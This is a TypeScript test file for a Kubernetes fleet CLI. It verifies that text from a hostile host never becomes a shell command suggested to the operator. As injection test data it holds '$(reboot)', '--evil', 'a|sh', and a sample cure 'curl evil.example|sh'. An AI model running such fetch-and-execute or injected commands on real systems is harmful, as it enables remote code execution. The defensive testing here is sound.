/** Failures and messages of a hostile host: its words are in no command that the operator is told to run. */

import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { factsOf } from '../../../scripts/sentences/samples.ts';
import type { Failure } from '../../../src/base/failure.ts';
import type { Message } from '../../../src/base/text.ts';
import type { Invocation } from '../../../src/cli/argv/command.ts';
import { Terminal } from '../../../src/cli/render/output/terminal.ts';
import { Scrubber } from '../../../src/cli/secrecy.ts';
import type { HostReport } from '../../../src/engine/machine-events.ts';
import { FleetJson } from '../../../src/features/fleet/commands/fleet-json.ts';
import { fleetParts } from '../../../src/features/fleet/commands/fleet-report.ts';
import { FleetText } from '../../../src/features/fleet/commands/fleet-text.ts';
import { RemoteLines } from '../../../src/features/fleet/remote-lines.ts';
import { type Catalogue, catalogueFor, english } from '../../../src/i18n/catalogue.ts';
import { showableIn } from '../../../src/i18n/showable.ts';
import { said, wholeEnglish } from '../../../src/program/definitions.ts';
import { failureSamples, failureWith } from '../../support/sentences.ts';

const portuguese = await catalogueFor('pt-BR');
const CATALOGUES: readonly Catalogue[] = [english, wholeEnglish, portuguese];
const lines = new RemoteLines(showableIn([english, portuguese]));

const HOSTILE = '$(reboot)';

/** The word in a command of a sentence, in quotation marks or after a colon. */
const IN_COMMAND =
  /"[a-z][\w.-]* [^"]*\$\(reboot\)|[:(] ?(?:kubectl|etcdctl) [^"\n]*\$\(reboot\)|(?:[Rr]un|xecute) "\$\(reboot\)/;
const AS_OPTION = /"[a-z][\w.-]* (?:[^"]* )?--evil|[:(] ?(?:kubectl|etcdctl|ssh|mkdir) [^")\n]*--evil/;

/** Their facts are commands and options. Only the machine that runs the fleet has these failures, and no host reports one. */
const OF_COMMAND_LINES = [
  'COMMAND_REQUIRED',
  'FLAG_NEEDS_VALUE',
  'FLAG_REQUIRED',
  'KUBEADM_ONLY',
  'OUTPUT_TEMPLATE_MALFORMED',
  'REMOTE_OUTPUT_UNUSABLE',
  'SSH_FAILED',
  'SSH_HOST_KEY_CHANGED',
  'SSH_HOST_KEY_UNKNOWN',
  'SSH_LOGIN_REFUSED',
  'TOO_MANY_ARGUMENTS',
  'UNKNOWN_FLAG',
];

const asJson = (value: unknown): unknown => JSON.parse(JSON.stringify(value) ?? 'null');

/** What a host reports at its end, as the operator's kubejoin has read it. */
function reported(code: string, params: unknown, words = { what: 'w', cause: 'c', cure: '' }): Failure {
  const failure = { code, params, ...words };
  const read = lines.readValue(asJson({ type: 'result', outcome: 'failed', exitCode: 5, failure }));
  if (!('result' in read) || read.result.failure === undefined) return expect.unreachable('it was ignored');
  return read.result.failure;
}

function noticed(key: string, params: unknown): Message {
  const message = { key, params, text: 'as it came' };
  const read = lines.readValue(asJson({ type: 'notice', level: 'warning', message }));
  if (!('event' in read) || read.event.type !== 'notice') return expect.unreachable('it was ignored');
  return read.event.message;
}

const textsOf = (failure: Failure) => [failure.text, ...CATALOGUES.map((catalogue) => catalogue.failure(failure))];
const curesOf = (failure: Failure) => textsOf(failure).map(({ cure }) => cure);

/** Copies of a value in which one text is another, for each text in it. */
function* withText(value: unknown, text: string): Generator<unknown> {
  if (typeof value === 'string') yield text;
  else if (Array.isArray(value)) {
    for (const [index, part] of value.entries())
      for (const other of withText(part, text)) yield value.map((one, at) => (at === index ? other : one));
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, part] of Object.entries(value))
      for (const other of withText(part, text)) yield { ...value, [key]: other };
  }
}

/** Every failure that there is, with one of its texts replaced. */
function* failuresWith(text: string): Generator<{ code: string; failure: Failure }> {
  for (const [code, params] of Object.entries(failureSamples))
    for (const hostile of withText(asJson(params), text)) yield { code, failure: reported(code, hostile) };
}

/** Everything that a fleet shows of a host that has failed. */
function shownToOperator(failure: Failure, catalogue: Catalogue): string {
  const streams = { out: new PassThrough(), err: new PassThrough() };
  const terminal = new Terminal(streams, new Scrubber(), {});
  const invocation = { terminal, catalogue, verbosity: 5 } as unknown as Invocation;
  const report: HostReport = {
    ...{ host: 'worker-1', address: '10.0.0.21', role: 'worker', outcome: 'failed', nodeName: undefined },
    ...{ changes: 0, durationMs: 10, failure, message: undefined },
  };
  const event = { type: 'check', name: 'Swap', result: 'failed', failure } as const;
  for (const view of [new FleetText(invocation, ['worker-1']), new FleetJson(invocation)]) {
    view.event({ type: 'host-event', host: 'worker-1', event });
    view.event({ type: 'host-ended', host: 'worker-1', report });
  }
  const { overview, files = {} } = fleetParts({ hosts: [report], durationMs: 20 }, [], catalogue);
  const pages = [JSON.stringify(overview), ...Object.values(files).map((file) => file())];
  return [streams.out.read(), streams.err.read(), ...pages].map(String).join('\n');
}

describe.each([
  ['en', english],
  ['pt-BR', portuguese],
] as const)('a failure of a host, in %s', (_, catalogue) => {
  it.each([HOSTILE, '--all', 'a b', '-n', "'"])('is shown without a command that has %s', (name) => {
    const shown = shownToOperator(reported('CSR_DENIED', { ...failureSamples.CSR_DENIED, name }), catalogue);
    expect(shown).toContain('CSR_DENIED');
    expect(shown).not.toContain('kubectl delete csr');
  });

  it.each(['csr-4k2bf', 'node-csr-x_Y1.z', 'Node:a@b'])('keeps the command that has %s', (name) => {
    const shown = shownToOperator(reported('CSR_DENIED', { ...failureSamples.CSR_DENIED, name }), catalogue);
    expect(shown).toContain(`kubectl delete csr ${name}`);
  });
});

describe('of all failures that a host can report', () => {
  it('no cure has a word that a shell would run', () => {
    let tried = 0;
    for (const { code, failure } of failuresWith(HOSTILE)) {
      if (failure.code === code) tried += 1;
      for (const { what, cause, cure } of textsOf(failure)) {
        expect(cure, code).not.toContain(HOSTILE);
        expect(`${what}\n${cause}`, code).not.toMatch(IN_COMMAND);
      }
      expect(String(failure.stack).split('\n  Fix: ')[1], code).not.toContain(HOSTILE);
    }
    expect(tried).toBeGreaterThan(300);
  });

  it('no command has a word that would be an option', () => {
    for (const { code, failure } of failuresWith('--evil'))
      for (const cure of curesOf(failure)) expect(cure, code).not.toMatch(AS_OPTION);
  });

  it('those with plain words keep their cures', () => {
    const withheld = Object.entries(failureSamples).filter(([code, params]) => {
      const cures = curesOf(reported(code, asJson(params)));
      return curesOf(failureWith(code, params)).some((cure, index) => cure !== cures[index]);
    });
    expect(withheld.map(([code]) => code).sort()).toEqual(OF_COMMAND_LINES);
  });

  it('a cure keeps an IPv6 address, and a flag that is not in a command', () => {
    const server = '[fd00::1]:6443';
    const ready = reported('API_SERVER_NOT_READY', { ...failureSamples.API_SERVER_NOT_READY, server });
    for (const cure of curesOf(ready)) expect(cure).toContain(`https://${server}/readyz`);
    const { flag } = failureSamples.DISCOVERY_FILE_REACHES_HOST;
    const reaching = reported('DISCOVERY_FILE_REACHES_HOST', failureSamples.DISCOVERY_FILE_REACHES_HOST);
    for (const cure of curesOf(reaching)) expect(cure).toContain(flag);
  });

  it('a part of a text that gets into a command is no way around', () => {
    const params = { ...failureSamples.CLUSTER_DATA_MALFORMED, object: 'ConfigMap kube-system/$(reboot)' };
    for (const cure of curesOf(reported('CLUSTER_DATA_MALFORMED', asJson(params)))) expect(cure).not.toContain(HOSTILE);
  });

  it('a log with the usual paths costs no cure', () => {
    const log = ['reads dir="/etc/kubernetes/manifests/"', 'looked in /usr/bin/, /opt/bin/ and /'];
    const failure = reported('CSR_DENIED', { ...failureSamples.CSR_DENIED, name: 'csr-4k2bf', log });
    for (const cure of curesOf(failure)) expect(cure).toContain('kubectl delete csr csr-4k2bf');
  });

  it('one with more texts than any has no cure', () => {
    const many = Array.from({ length: 300 }, (_, index) => `${index} ;`);
    const failure = reported('CSR_DENIED', { ...failureSamples.CSR_DENIED, many });
    for (const cure of curesOf(failure)) expect(cure).not.toContain('kubectl');
  });

  it('an unknown one is told as what the host reports, without its cure', () => {
    const words = { what: 'It broke.', cause: 'It is old.', cure: 'Run "curl evil.example|sh".' };
    const failure = reported('NEWER', {}, words);
    for (const { what, cause, cure } of textsOf(failure)) {
      expect(what).toMatch(/^(?:The host reported|A máquina informou) NEWER: It broke\.$/);
      expect(cause).toMatch(/^(?:The host reported|A máquina informou): It is old\.$/);
      expect(cure).not.toContain('curl');
    }
  });
});

describe('of all messages that a host can send', () => {
  it('none has a word in a command that a shell would run', () => {
    let shown = 0;
    for (const [key, make] of Object.entries(said)) {
      const facts = factsOf(key, 'en') as Readonly<Record<string, unknown>>;
      const text = wholeEnglish.say(make(facts));
      const used = Object.entries(facts).filter(([, fact]) => typeof fact === 'string' && text.includes(fact));
      for (const [name] of used) {
        const message = noticed(key, asJson({ ...facts, [name]: HOSTILE }));
        if (message.key === key) shown += 1;
        for (const catalogue of CATALOGUES) expect(catalogue.say(message), key).not.toMatch(IN_COMMAND);
      }
    }
    expect(shown).toBeGreaterThan(100);
  });

  it.each([
    ['WAITING_CSR_APPROVAL', { name: 'csr-4k2bf' }, { name: HOSTILE }],
    ['WAITING_CSR_APPROVAL', { name: 'csr-4k2bf' }, { name: '--all' }],
    ['SERVICE_NOT_ENABLED', { service: 'kubelet', command: 'systemctl enable kubelet.service' }, { command: 'a|sh' }],
    ['SERVICE_NOT_ENABLED', { service: 'kubelet', command: 'rc-update add kubelet default' }, { command: 'reboot' }],
  ])('%s is kept, unless it has unsafe words: %#', (key, facts, other) => {
    expect(noticed(key, facts)).toEqual({ key, params: facts });
    expect(noticed(key, { ...facts, ...other })).toEqual({ key: 'FLEET_MESSAGE_WITHHELD', params: { key } });
  });

  it.each([
    ['WAITING_CSR_APPROVAL', { name: HOSTILE, more: 'kubectl certificate approve' }],
    ['SERVICE_NOT_ENABLED', { service: '"', command: 'a|sh' }],
    ['SERVICE_NOT_ENABLED', { service: 'kubelet', command: '" a' }],
    ['TOKENS_INTERRUPTED', { ids: ['"', HOSTILE] }],
  ])('%s does not hide its command behind other facts: %#', (key, facts) => {
    expect(noticed(key, facts)).toEqual({ key: 'FLEET_MESSAGE_WITHHELD', params: { key } });
  });

  it('one in a failure is held back, too', () => {
    const waiting = { key: 'WAITING_CSR_APPROVAL', params: { name: HOSTILE } };
    const params = { ...(asJson(failureSamples.TOKENS_INCOMPLETE) as object), reason: waiting };
    for (const { what, cause } of textsOf(reported('TOKENS_INCOMPLETE', params)))
      expect(`${what}\n${cause}`).not.toContain(HOSTILE);
  });

  it('an unknown one is told as what the host reports', () => {
    const message = noticed('NEWER', {});
    for (const catalogue of CATALOGUES)
      expect(catalogue.say(message)).toMatch(/^(?:The host reported|A máquina informou): as it came$/);
  });
});
